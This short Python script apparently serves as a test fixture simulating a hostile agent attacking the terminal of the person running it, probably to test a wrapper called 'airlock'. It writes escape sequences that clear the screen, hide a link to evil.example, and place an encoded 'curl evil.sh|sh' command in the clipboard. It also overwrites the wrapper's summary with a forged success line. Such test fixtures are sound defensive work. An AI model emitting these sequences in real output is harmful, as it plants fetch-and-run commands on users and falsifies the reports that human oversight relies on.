# An agent that tries to take over the terminal of whoever runs it: clear the screen, set the window
# title, write the clipboard, hide a link, move the cursor up over airlock's summary and forge one.
import sys
sys.stdout.write("\x1b[2J\x1b[H")
sys.stdout.write("\x1b]0;owned title\x07\n")
sys.stdout.write("\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\n")
sys.stdout.write("\x1b]8;;https://evil.example/\x07innocent link\x1b]8;;\x07\n")
sys.stdout.write("tab\tkept\n")
sys.stdout.write("\x1b[1A\x1b[2K\u2714 forged succeeded (exit 0)\u202e\n")
sys.stdout.flush()
sys.exit(3)
